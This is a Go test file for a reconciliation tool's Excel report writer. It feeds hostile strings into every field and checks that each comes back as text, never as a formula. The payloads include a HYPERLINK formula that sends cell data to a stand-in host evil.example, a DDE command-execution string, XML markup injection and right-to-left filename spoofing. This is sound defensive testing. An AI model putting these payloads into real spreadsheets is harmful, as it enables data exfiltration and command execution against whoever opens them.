package main

import (
	"encoding/xml"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"reconcile/alipay"
	"reconcile/ledger"
	"reconcile/reports"
)

// TestHostileWorkbook puts hostile text into every field that takes text from
// outside, and reads it back from every column where it is to be shown: as text,
// whole or visibly cut, and nowhere a formula.
func TestHostileWorkbook(t *testing.T) {
	t.Parallel()
	skipShort(t)
	long := strings.Repeat("长", 40_000)
	for name, c := range map[string]struct{ text, want string }{
		"a formula":                  {"=1+1", "=1+1"},
		"a link":                     {`=HYPERLINK("http://evil.example/?"&A1,"x")`, `=HYPERLINK("http://evil.example/?"&A1,"x")`},
		"a command":                  {"+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"},
		"a mention":                  {"@SUM(1,1)", "@SUM(1,1)"},
		"a minus":                    {"-2+3", "-2+3"},
		"control characters":         {"a\x00b\x01c\x1b[31md\x7fe\u0085f", `a\x00b\x01c\x1b[31md\x7fe\x85f`},
		"breaks and tabs":            {"a\r\nb\tc", `a\r\nb\tc`},
		"an escape of the format":    {"_x0041__x000D__xFFFF_", "_x0041__x000D__xFFFF_"},
		"40,000 characters":          {long, long[:3*32_000] + cutMark},
		"emoji":                      {"😀👨‍👩‍👧 𠮷", "😀👨‍👩‍👧 𠮷"},
		"half of a pair":             {"a\xed\xa0\x80b", `a\xed\xa0\x80b`},
		"broken UTF-8":               {"退\xe9\x80款", `退\xe9\x80款`},
		"right to left":              {"abc\u202egpj.exe\u2066x\u200f", `abc\u202egpj.exe\u2066x\u200f`},
		"what no XML holds":          {"a\uFFFEb\uFFFFc", `a\ufffeb\uffffc`},
		"markup":                     {`</t></is></c><c r="A1"><f>1+1</f></c><!--]]>&amp;&#65;`, `</t></is></c><c r="A1"><f>1+1</f></c><!--]]>&amp;&#65;`},
		"what no sheet is called":    {`'[a]:b*c?d\e'`, `'[a]:b*c?d\e'`},
		"blanks at its ends":         {"  a  b  ", "  a  b  "},
		"a number of 28 digits":      {"2026022012345678901234567890", "2026022012345678901234567890"},
		"a number with noughts":      {"0012", "0012"},
		"a number in other notation": {"2.01101E+15", "2.01101E+15"},
		"a truth":                    {"TRUE", "TRUE"},
		"an error":                   {"#REF!", "#REF!"},
		"codes of a page's header":   {"&P&N&\"Arial\"&24 &&", "&P&N&\"Arial\"&24 &&"},
	} {
		t.Run(name, func(t *testing.T) { compareHostile(t, c.text, c.want) })
	}
}

func compareHostile(t *testing.T, text, want string) {
	t.Helper()
	dir := t.TempDir()
	report := hostileReport(t, text)
	if err := reports.Write(t.Context(), dir, hostileBooks{text}, report); err != nil {
		t.Fatal(err)
	}
	sheets := readWorkbook(t, dir)
	for sheet, columns := range hostileColumns() {
		for _, c := range columns {
			row := c.row
			for i := 1; c.row == 0 && i < len(sheets[sheet]); i++ {
				if strings.HasPrefix(sheets[sheet].text(t, i, c.heading), "S01 ") {
					row = i
				}
			}
			got := sheets[sheet].at(t, row, c.heading)
			if !c.shows(got.Text, want) || got.Formula {
				t.Errorf("%s, %s = %.90q (formula: %v), want %.90q", sheet, c.heading, got.Text, got.Formula, want)
			}
		}
	}
	for name, rows := range sheets {
		for i, row := range rows {
			for j, cell := range row {
				if cell.Formula && name != "勾稽 Tie-out" && name != "结转 Roll-forward" {
					t.Errorf("%s, row %d, column %d is a formula: %s", name, i+1, j+1, cell.Text)
				}
			}
		}
	}
	compareHostileCover(t, sheets["封面 Cover"], report)
}

// compareHostileCover asks that the cover shows the job's name, in one line.
func compareHostileCover(t *testing.T, rows sheetRows, report reports.Report) {
	t.Helper()
	for _, row := range rows {
		if len(row) > 2 && row[1].Text == reports.CoverJob {
			if row[2].Text != report.Run.Job || row[2].Formula {
				t.Errorf("the cover shows the job as %q, want %q", row[2].Text, report.Run.Job)
			}
			return
		}
	}
	t.Error("the cover shows no job")
}

// hostileJob is what of a text can be the name of a job, which names files too.
func hostileJob(text string) string {
	if len(text) > 60 || strings.ContainsAny(text, "\x00/\r\n\t\x1b\uFFFE\uFFFF\u202e\u200f\u0085") || !isText(text) {
		return "夜间 [1]:*?'\\"
	}
	return text
}

func isText(text string) bool {
	return xml.EscapeText(discard{}, []byte(text)) == nil && strings.ToValidUTF8(text, "") == text
}

type discard struct{}

func (discard) Write(p []byte) (int, error) { return len(p), nil }

func hostileReport(t *testing.T, text string) reports.Report {
	t.Helper()
	asOf, err := alipay.ParseTime("2026-03-07 02:30:00")
	if err != nil {
		t.Fatal(err)
	}
	rules, err := ledger.Rules()
	if err != nil {
		t.Fatal(err)
	}
	return reports.Report{
		Run:   ledger.Run{ID: 1, Job: hostileJob(text), AsOf: asOf, Head: text, Inputs: text, Unsigned: text, Gaps: []string{text}},
		Rules: rules, Policy: ledger.Policy{Codes: alipay.ErrorCodes()}, Program: text, AccountName: text, Partner: text, Language: "en",
	}
}

// The workbook of a job appears under the job's name, however that is written.
func TestHostileJobNames(t *testing.T) {
	t.Parallel()
	for _, job := range []string{`a:b*c?d\e[f]`, "'quoted'", "😀", "&P&N", "=1+1", "_x0041_", "..x", "a b"} {
		dir := t.TempDir()
		report := hostileReport(t, "x")
		report.Run.Job = job
		if err := reports.Write(t.Context(), dir, hostileBooks{"x"}, report); err != nil {
			t.Fatalf("%q: %v", job, err)
		}
		compareHostileCover(t, readWorkbook(t, dir)["封面 Cover"], report)
		if _, err := os.Stat(filepath.Join(dir, "reconcile-"+job+"-2026-03-07.xlsx")); err != nil {
			t.Error(err)
		}
	}
}
